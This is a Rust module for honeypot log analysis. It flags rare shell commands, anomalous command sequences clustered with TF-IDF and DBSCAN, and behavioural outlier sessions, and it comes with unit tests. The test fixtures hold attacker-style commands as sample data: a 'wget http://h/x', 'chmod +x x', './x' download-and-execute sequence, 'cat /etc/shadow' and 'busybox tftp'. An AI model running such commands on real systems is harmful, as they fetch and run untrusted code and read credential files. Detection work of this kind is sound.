//! Longtail analysis: rare commands, anomalous command sequences and
//! behavioral outlier sessions.
//!
//! Rarity is relative to the whole observation window: a command is rare when
//! `frequency <= rarity_threshold * total_commands`. Sequences are the first
//! `sequence_window` commands of each session, clustered by cosine distance
//! over TF-IDF vectors; behavior vectors are
//! `[duration, commands, login attempts, downloads]`, z-scored and clustered
//! by Euclidean distance. In both cases DBSCAN noise is the finding.

use std::collections::{BTreeMap, BTreeSet};
use std::time::Instant;

use chrono::{DateTime, Utc};
use ndarray::Array2;
use serde::{Deserialize, Serialize};
use tracing::{debug, info, warn};

use crate::cluster::{standardize, Dbscan};
use crate::config::LongtailConfig;
use crate::error::AnalysisError;
use crate::session::{Event, Session};
use crate::stats::round6;
use crate::vectorizer::{CommandVectorizer, UNFITTED_FINGERPRINT};

const BEHAVIOR_FEATURES: usize = 4;

/// Command observed at or below the rarity threshold.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct RareCommand {
    pub command: String,
    pub frequency: usize,
    pub rarity_score: f64,
    pub session_ids: Vec<String>,
}

/// Command sequence that fell outside every sequence cluster.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AnomalousSequence {
    pub sequence: String,
    pub anomaly_score: f64,
    pub occurrences: usize,
    pub session_ids: Vec<String>,
}

/// Session whose behavior vector fell outside every behavior cluster.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct OutlierSession {
    pub session_id: String,
    pub source_ip: Option<String>,
    pub duration_seconds: f64,
    pub command_count: u64,
    pub login_attempt_count: u64,
    pub file_download_count: u64,
}

/// Reserved: not produced yet.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct EmergingPattern {
    pub pattern: String,
    pub occurrences: usize,
    pub session_ids: Vec<String>,
}

/// Reserved: not produced yet.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct HighEntropyPayload {
    pub session_id: String,
    pub payload: String,
    pub entropy: f64,
}

/// Parameters and counters of one analysis run.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct LongtailStatistics {
    pub lookback_days: u32,
    pub rarity_threshold: f64,
    pub sequence_window: usize,
    pub cluster_eps: f64,
    pub behavior_eps: f64,
    pub min_cluster_size: usize,
    pub total_events: usize,
    pub total_commands: usize,
    pub unique_commands: usize,
    pub sessions_analyzed: usize,
    pub sequences_analyzed: usize,
    pub unique_sequences: usize,
    pub sequence_clusters: usize,
    pub behavior_clusters: usize,
    pub unique_behavior_vectors: usize,
    pub vocabulary_size: usize,
    pub vector_analysis_used: bool,
    pub events_per_second: f64,
    pub analysis_duration_seconds: f64,
}

/// Standardized behavior vector of one session.
#[derive(Debug, Clone, PartialEq)]
pub struct SessionVector {
    pub session_id: String,
    pub vector: Vec<f64>,
}

#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct LongtailAnalysisResult {
    pub rare_command_count: usize,
    pub anomalous_sequence_count: usize,
    pub outlier_session_count: usize,
    pub emerging_pattern_count: usize,
    pub high_entropy_payload_count: usize,
    pub rare_commands: Vec<RareCommand>,
    pub anomalous_sequences: Vec<AnomalousSequence>,
    pub outlier_sessions: Vec<OutlierSession>,
    pub emerging_patterns: Vec<EmergingPattern>,
    pub high_entropy_payloads: Vec<HighEntropyPayload>,
    pub statistical_summary: LongtailStatistics,
    pub analysis_duration_seconds: f64,
    /// Not part of the report; consumed by the store's vector step.
    #[serde(skip)]
    pub session_vectors: Vec<SessionVector>,
}

impl LongtailAnalysisResult {
    pub fn total_detections(&self) -> usize {
        self.rare_command_count
            + self.anomalous_sequence_count
            + self.outlier_session_count
            + self.emerging_pattern_count
            + self.high_entropy_payload_count
    }

    pub fn has_detections(&self) -> bool {
        self.total_detections() > 0
    }

    fn refresh_counts(&mut self) {
        self.rare_command_count = self.rare_commands.len();
        self.anomalous_sequence_count = self.anomalous_sequences.len();
        self.outlier_session_count = self.outlier_sessions.len();
        self.emerging_pattern_count = self.emerging_patterns.len();
        self.high_entropy_payload_count = self.high_entropy_payloads.len();
    }
}

/// Sequence corpus grouped by identical text.
struct SequenceCorpus {
    /// Every sequence, one per qualifying session.
    documents: Vec<String>,
    /// Distinct sequences with the sessions that produced them.
    unique: BTreeMap<String, Vec<String>>,
}

#[derive(Debug, Clone)]
pub struct LongtailAnalyzer {
    config: LongtailConfig,
}

impl LongtailAnalyzer {
    pub fn new(config: LongtailConfig) -> Self {
        Self { config }
    }

    /// A vectorizer sized for this analyzer's configuration.
    pub fn new_vectorizer(&self) -> CommandVectorizer {
        CommandVectorizer::new(self.config.max_features)
    }

    /// Analyzes one population. The vectorizer is refitted on this
    /// population's sequences when vector analysis runs.
    pub fn analyze(
        &self,
        sessions: &[Session],
        events: &[Event],
        lookback_days: u32,
        vectorizer: &mut CommandVectorizer,
    ) -> LongtailAnalysisResult {
        let started = Instant::now();
        let mut result = LongtailAnalysisResult::default();
        let mut stats = LongtailStatistics {
            lookback_days,
            rarity_threshold: self.config.rarity_threshold,
            sequence_window: self.config.sequence_window,
            cluster_eps: self.config.cluster_eps,
            behavior_eps: self.config.behavior_eps(),
            min_cluster_size: self.config.min_cluster_size,
            total_events: events.len(),
            sessions_analyzed: sessions.len(),
            ..Default::default()
        };

        let commands = command_observations(events);
        stats.total_commands = commands.len();
        result.rare_commands = self.rare_commands(&commands, &mut stats);

        let corpus = self.sequence_corpus(&commands);
        stats.sequences_analyzed = corpus.documents.len();
        stats.unique_sequences = corpus.unique.len();
        result.anomalous_sequences = self.anomalous_sequences(&corpus, vectorizer, &mut stats);

        let (outliers, vectors) = self.outlier_sessions(sessions, &mut stats);
        result.outlier_sessions = outliers;
        result.session_vectors = vectors;

        result.emerging_patterns = self.emerging_patterns(&commands);
        result.high_entropy_payloads = self.high_entropy_payloads(events);
        result.refresh_counts();

        let elapsed = started.elapsed().as_secs_f64();
        stats.analysis_duration_seconds = round6(elapsed);
        stats.events_per_second = if elapsed > 0.0 {
            round6(events.len() as f64 / elapsed)
        } else {
            0.0
        };
        result.analysis_duration_seconds = stats.analysis_duration_seconds;
        result.statistical_summary = stats;

        info!(
            "Longtail analysis: {} rare commands, {} anomalous sequences, {} outlier sessions",
            result.rare_command_count, result.anomalous_sequence_count, result.outlier_session_count
        );
        result
    }

    fn rare_commands(
        &self,
        commands: &[CommandObservation<'_>],
        stats: &mut LongtailStatistics,
    ) -> Vec<RareCommand> {
        let mut table: BTreeMap<&str, (usize, BTreeSet<&str>)> = BTreeMap::new();
        for obs in commands {
            let entry = table.entry(obs.command).or_default();
            entry.0 += 1;
            entry.1.insert(obs.session_id);
        }
        stats.unique_commands = table.len();

        let total = commands.len();
        if total == 0 {
            return Vec::new();
        }
        let limit = self.config.rarity_threshold * total as f64;

        let mut rare: Vec<RareCommand> = table
            .into_iter()
            .filter(|(_, (frequency, _))| *frequency as f64 <= limit)
            .map(|(command, (frequency, sessions))| RareCommand {
                command: command.to_string(),
                frequency,
                rarity_score: round6(frequency as f64 / total as f64),
                session_ids: sessions.into_iter().map(str::to_string).collect(),
            })
            .collect();
        rare.sort_by(|a, b| a.frequency.cmp(&b.frequency).then_with(|| a.command.cmp(&b.command)));
        debug!("{} of {} commands are rare", rare.len(), stats.unique_commands);
        rare
    }

    fn sequence_corpus(&self, commands: &[CommandObservation<'_>]) -> SequenceCorpus {
        let mut per_session: BTreeMap<&str, Vec<&CommandObservation<'_>>> = BTreeMap::new();
        for obs in commands {
            per_session.entry(obs.session_id).or_default().push(obs);
        }

        let window = self.config.sequence_window;
        let mut corpus = SequenceCorpus {
            documents: Vec::new(),
            unique: BTreeMap::new(),
        };
        for (session_id, mut observations) in per_session {
            if observations.len() < window {
                continue;
            }
            // Stable: untimestamped commands keep input order, after timed ones.
            observations.sort_by_key(|obs| (obs.timestamp.is_none(), obs.timestamp));
            let sequence = observations[..window]
                .iter()
                .map(|obs| obs.command)
                .collect::<Vec<_>>()
                .join(" ");
            corpus
                .unique
                .entry(sequence.clone())
                .or_default()
                .push(session_id.to_string());
            corpus.documents.push(sequence);
        }
        corpus
    }

    fn anomalous_sequences(
        &self,
        corpus: &SequenceCorpus,
        vectorizer: &mut CommandVectorizer,
        stats: &mut LongtailStatistics,
    ) -> Vec<AnomalousSequence> {
        if corpus.documents.is_empty() {
            return Vec::new();
        }

        if self.uses_vectors(corpus) {
            match self.cluster_sequences(corpus, vectorizer, stats) {
                Ok(anomalies) => {
                    stats.vector_analysis_used = true;
                    return anomalies;
                }
                Err(AnalysisError::ClusteringFailure(e)) => {
                    warn!("Sequence clustering failed, reporting no anomalies: {}", e);
                    return Vec::new();
                }
                Err(e) => debug!("Vector analysis unavailable ({}), using frequency fallback", e),
            }
        }

        corpus
            .unique
            .iter()
            .filter(|(_, sessions)| sessions.len() == 1)
            .map(|(sequence, sessions)| anomaly(sequence, sessions))
            .collect()
    }

    fn uses_vectors(&self, corpus: &SequenceCorpus) -> bool {
        self.config.vector_analysis_enabled
            && !corpus.documents.is_empty()
            && corpus.documents.len() >= self.config.min_cluster_size
    }

    /// Fingerprint the vectorizer will carry after analyzing `events`,
    /// computed without touching the caller's vectorizer.
    pub fn corpus_fingerprint(&self, events: &[Event], vectorizer: &CommandVectorizer) -> String {
        let commands = command_observations(events);
        let corpus = self.sequence_corpus(&commands);
        if !self.uses_vectors(&corpus) {
            return vectorizer.vocabulary_fingerprint();
        }
        let mut trial = vectorizer.clone();
        match trial.fit(&corpus.documents) {
            Ok(_) => trial.vocabulary_fingerprint(),
            Err(_) => UNFITTED_FINGERPRINT.to_string(),
        }
    }

    fn cluster_sequences(
        &self,
        corpus: &SequenceCorpus,
        vectorizer: &mut CommandVectorizer,
        stats: &mut LongtailStatistics,
    ) -> Result<Vec<AnomalousSequence>, AnalysisError> {
        stats.vocabulary_size = vectorizer.fit(&corpus.documents)?;

        let unique: Vec<(&String, &Vec<String>)> = corpus.unique.iter().collect();
        let documents: Vec<&str> = unique.iter().map(|(sequence, _)| sequence.as_str()).collect();
        let weights: Vec<usize> = unique.iter().map(|(_, sessions)| sessions.len()).collect();
        let matrix = vectorizer.transform_batch(&documents);

        let dbscan = Dbscan::new(self.config.cluster_eps, self.config.min_cluster_size)?;
        let clustering = dbscan.fit_cosine(matrix.view(), &weights)?;
        stats.sequence_clusters = clustering.cluster_count;

        Ok(clustering
            .noise_indices()
            .into_iter()
            .map(|i| anomaly(unique[i].0, unique[i].1))
            .collect())
    }

    fn outlier_sessions(
        &self,
        sessions: &[Session],
        stats: &mut LongtailStatistics,
    ) -> (Vec<OutlierSession>, Vec<SessionVector>) {
        if sessions.len() < self.config.min_cluster_size {
            debug!(
                "Skipping behavior clustering: {} sessions (need {})",
                sessions.len(),
                self.config.min_cluster_size
            );
            return (Vec::new(), Vec::new());
        }

        let mut points = behavior_matrix(sessions);
        standardize(&mut points);

        let clustering = Dbscan::new(self.config.behavior_eps(), self.config.min_cluster_size)
            .and_then(|dbscan| dbscan.fit_euclidean(points.view()));
        let clustering = match clustering {
            Ok(clustering) => clustering,
            Err(e) => {
                warn!("Behavior clustering failed, reporting no outliers: {}", e);
                return (Vec::new(), Vec::new());
            }
        };
        stats.behavior_clusters = clustering.cluster_count;
        stats.unique_behavior_vectors = clustering.unique_points;
        debug!(
            "Behavior clustering: {} sessions, {} distinct vectors, {} clusters",
            sessions.len(),
            clustering.unique_points,
            clustering.cluster_count
        );

        let outliers = clustering
            .noise_indices()
            .into_iter()
            .map(|i| {
                let s = &sessions[i];
                OutlierSession {
                    session_id: s.session_id.clone(),
                    source_ip: s.source_ip_text().map(str::to_string),
                    duration_seconds: s.duration_seconds(),
                    command_count: s.command_count,
                    login_attempt_count: s.login_attempt_count,
                    file_download_count: s.file_download_count,
                }
            })
            .collect();
        let vectors = sessions
            .iter()
            .zip(points.rows())
            .map(|(s, row)| SessionVector {
                session_id: s.session_id.clone(),
                vector: row.to_vec(),
            })
            .collect();
        (outliers, vectors)
    }

    // TODO: cluster first-seen commands against the lookback window baseline.
    fn emerging_patterns(&self, _commands: &[CommandObservation<'_>]) -> Vec<EmergingPattern> {
        Vec::new()
    }

    fn high_entropy_payloads(&self, _events: &[Event]) -> Vec<HighEntropyPayload> {
        Vec::new()
    }
}

impl Default for LongtailAnalyzer {
    fn default() -> Self {
        Self::new(LongtailConfig::default())
    }
}

/// Convenience entry point with a fresh vectorizer.
pub fn analyze_longtail(
    sessions: &[Session],
    events: &[Event],
    lookback_days: u32,
    config: LongtailConfig,
) -> LongtailAnalysisResult {
    let analyzer = LongtailAnalyzer::new(config);
    let mut vectorizer = analyzer.new_vectorizer();
    analyzer.analyze(sessions, events, lookback_days, &mut vectorizer)
}

struct CommandObservation<'a> {
    session_id: &'a str,
    command: &'a str,
    timestamp: Option<DateTime<Utc>>,
}

fn command_observations(events: &[Event]) -> Vec<CommandObservation<'_>> {
    events
        .iter()
        .filter_map(|event| {
            event.command_input().map(|command| CommandObservation {
                session_id: event.session_id.as_str(),
                command,
                timestamp: event.timestamp,
            })
        })
        .collect()
}

/// Rows of `[duration, commands, login attempts, downloads]`.
fn behavior_matrix(sessions: &[Session]) -> Array2<f64> {
    Array2::from_shape_fn((sessions.len(), BEHAVIOR_FEATURES), |(i, j)| {
        let session = &sessions[i];
        match j {
            0 => session.duration_seconds(),
            1 => session.command_count as f64,
            2 => session.login_attempt_count as f64,
            _ => session.file_download_count as f64,
        }
    })
}

fn anomaly(sequence: &str, sessions: &[String]) -> AnomalousSequence {
    AnomalousSequence {
        sequence: sequence.to_string(),
        anomaly_score: 1.0,
        occurrences: sessions.len(),
        session_ids: sessions.to_vec(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::{Duration, TimeZone};

    fn base_time() -> DateTime<Utc> {
        Utc.with_ymd_and_hms(2024, 6, 1, 12, 0, 0).unwrap()
    }

    fn commands_for(session_id: &str, commands: &[&str]) -> Vec<Event> {
        commands
            .iter()
            .enumerate()
            .map(|(i, c)| {
                Event::command(session_id, Some(base_time() + Duration::seconds(i as i64)), *c)
            })
            .collect()
    }

    fn behavior_session(id: &str, duration: i64, commands: u64) -> Session {
        Session {
            first_event_at: Some(base_time()),
            last_event_at: Some(base_time() + Duration::seconds(duration)),
            command_count: commands,
            login_attempt_count: 1,
            source_ip: Some("45.10.0.1".to_string()),
            ..Session::new(id)
        }
    }

    #[test]
    fn test_rare_commands_threshold_and_order() {
        let mut events = Vec::new();
        for (command, count) in [("uname -a", 900), ("cat /proc/cpuinfo", 50), ("./x86", 30), ("busybox tftp", 20)] {
            for i in 0..count {
                events.push(Event::command(format!("s{}", i % 10), None, command));
            }
        }
        assert_eq!(events.len(), 1000);

        let result = LongtailAnalyzer::default().analyze(
            &[],
            &events,
            7,
            &mut CommandVectorizer::default(),
        );
        let rare: Vec<(&str, usize)> = result
            .rare_commands
            .iter()
            .map(|r| (r.command.as_str(), r.frequency))
            .collect();
        assert_eq!(
            rare,
            vec![("busybox tftp", 20), ("./x86", 30), ("cat /proc/cpuinfo", 50)]
        );
        assert_eq!(result.rare_command_count, 3);
        assert_eq!(result.rare_commands[0].rarity_score, 0.02);
        assert_eq!(result.rare_commands[0].session_ids.len(), 10);
        assert_eq!(result.statistical_summary.total_commands, 1000);
        assert_eq!(result.statistical_summary.unique_commands, 4);
    }

    #[test]
    fn test_non_command_events_ignored() {
        let mut events = commands_for("s1", &["ls"]);
        events.push(Event {
            session_id: "s1".to_string(),
            event_type: "cowrie.login.failed".to_string(),
            timestamp: None,
            payload: Default::default(),
        });
        let result = analyze_longtail(&[], &events, 1, LongtailConfig::default());
        assert_eq!(result.statistical_summary.total_events, 2);
        assert_eq!(result.statistical_summary.total_commands, 1);
    }

    #[test]
    fn test_sequence_window_excludes_short_sessions() {
        let mut events = commands_for("long", &["a", "b", "c", "d", "e", "f"]);
        events.extend(commands_for("short", &["a", "b"]));
        let config = LongtailConfig {
            vector_analysis_enabled: false,
            ..Default::default()
        };
        let result = analyze_longtail(&[], &events, 1, config);
        assert_eq!(result.statistical_summary.sequences_analyzed, 1);
        assert_eq!(result.anomalous_sequences.len(), 1);
        assert_eq!(result.anomalous_sequences[0].sequence, "a b c d e");
    }

    #[test]
    fn test_sequence_order_follows_timestamps() {
        let mut events = commands_for("s1", &["a", "b", "c", "d", "e"]);
        events.reverse();
        let config = LongtailConfig {
            vector_analysis_enabled: false,
            ..Default::default()
        };
        let result = analyze_longtail(&[], &events, 1, config);
        assert_eq!(result.anomalous_sequences[0].sequence, "a b c d e");
    }

    #[test]
    fn test_vector_clustering_flags_odd_sequence() {
        let common = ["cd /tmp", "wget http://h/x", "chmod +x x", "./x", "rm x"];
        let mut events = Vec::new();
        for i in 0..6 {
            events.extend(commands_for(&format!("bot{i}"), &common));
        }
        events.extend(commands_for(
            "human",
            &["ls", "pwd", "cat /etc/shadow", "history", "exit"],
        ));

        let analyzer = LongtailAnalyzer::default();
        let mut vectorizer = analyzer.new_vectorizer();
        let result = analyzer.analyze(&[], &events, 1, &mut vectorizer);

        assert!(result.statistical_summary.vector_analysis_used);
        assert_eq!(result.statistical_summary.sequence_clusters, 1);
        assert_eq!(result.anomalous_sequences.len(), 1);
        assert_eq!(result.anomalous_sequences[0].session_ids, vec!["human"]);
        assert_eq!(result.anomalous_sequences[0].anomaly_score, 1.0);
        assert!(vectorizer.is_fitted());
    }

    #[test]
    fn test_small_corpus_uses_frequency_fallback() {
        let mut events = commands_for("a", &["1", "2", "3", "4", "5"]);
        events.extend(commands_for("b", &["1", "2", "3", "4", "5"]));
        events.extend(commands_for("c", &["9", "8", "7", "6", "5"]));

        let mut vectorizer = CommandVectorizer::default();
        let result = LongtailAnalyzer::default().analyze(&[], &events, 1, &mut vectorizer);

        assert!(!result.statistical_summary.vector_analysis_used);
        assert!(!vectorizer.is_fitted());
        assert_eq!(result.anomalous_sequences.len(), 1);
        assert_eq!(result.anomalous_sequences[0].session_ids, vec!["c"]);
    }

    #[test]
    fn test_behavior_outliers() {
        let mut sessions: Vec<Session> = (0..10)
            .map(|i| behavior_session(&format!("s{i}"), 30, 3))
            .collect();
        sessions.push(Session {
            file_download_count: 12,
            ..behavior_session("odd", 7200, 400)
        });

        let result = LongtailAnalyzer::default().analyze(
            &sessions,
            &[],
            1,
            &mut CommandVectorizer::default(),
        );
        assert_eq!(result.outlier_session_count, 1);
        assert_eq!(result.outlier_sessions[0].session_id, "odd");
        assert_eq!(result.outlier_sessions[0].file_download_count, 12);
        assert_eq!(result.statistical_summary.behavior_clusters, 1);
        assert_eq!(result.session_vectors.len(), 11);
        assert_eq!(result.session_vectors[0].vector.len(), 4);
    }

    #[test]
    fn test_repeated_behavior_profiles_collapse() {
        let profiles = [(30, 3), (60, 3), (30, 4)];
        let mut sessions: Vec<Session> = (0..3000)
            .map(|i| {
                let (duration, commands) = profiles[i % profiles.len()];
                behavior_session(&format!("s{i}"), duration, commands)
            })
            .collect();
        sessions.push(Session {
            file_download_count: 12,
            ..behavior_session("odd", 7200, 400)
        });

        let result = analyze_longtail(&sessions, &[], 1, LongtailConfig::default());
        assert_eq!(result.statistical_summary.unique_behavior_vectors, 4);
        assert_eq!(result.outlier_session_count, 1);
        assert_eq!(result.outlier_sessions[0].session_id, "odd");
        assert_eq!(result.session_vectors.len(), 3001);
    }

    #[test]
    fn test_small_population_has_no_outliers() {
        let sessions = vec![behavior_session("a", 1, 1), behavior_session("b", 9000, 90)];
        let result = analyze_longtail(&sessions, &[], 1, LongtailConfig::default());
        assert!(result.outlier_sessions.is_empty());
        assert!(result.session_vectors.is_empty());
    }

    #[test]
    fn test_reserved_categories_and_summary() {
        let events = commands_for("s1", &["ls"]);
        let result = analyze_longtail(&[], &events, 30, LongtailConfig::default());
        assert!(result.emerging_patterns.is_empty());
        assert!(result.high_entropy_payloads.is_empty());
        assert_eq!(result.statistical_summary.lookback_days, 30);
        assert_eq!(result.statistical_summary.rarity_threshold, 0.05);
        assert!(result.statistical_summary.events_per_second >= 0.0);

        let json = serde_json::to_value(&result).unwrap();
        assert!(json.get("session_vectors").is_none());
        assert!(json.get("emerging_patterns").is_some());
    }

    #[test]
    fn test_corpus_fingerprint_matches_analysis() {
        let mut events = Vec::new();
        for i in 0..6 {
            events.extend(commands_for(&format!("s{i}"), &["a", "b", "c", "d", "e"]));
        }
        let analyzer = LongtailAnalyzer::default();
        let mut vectorizer = analyzer.new_vectorizer();
        let predicted = analyzer.corpus_fingerprint(&events, &vectorizer);
        assert!(!vectorizer.is_fitted());

        analyzer.analyze(&[], &events, 1, &mut vectorizer);
        assert_eq!(vectorizer.vocabulary_fingerprint(), predicted);
    }

    #[test]
    fn test_empty_input() {
        let result = analyze_longtail(&[], &[], 7, LongtailConfig::default());
        assert!(!result.has_detections());
        assert_eq!(result.total_detections(), 0);
    }
}
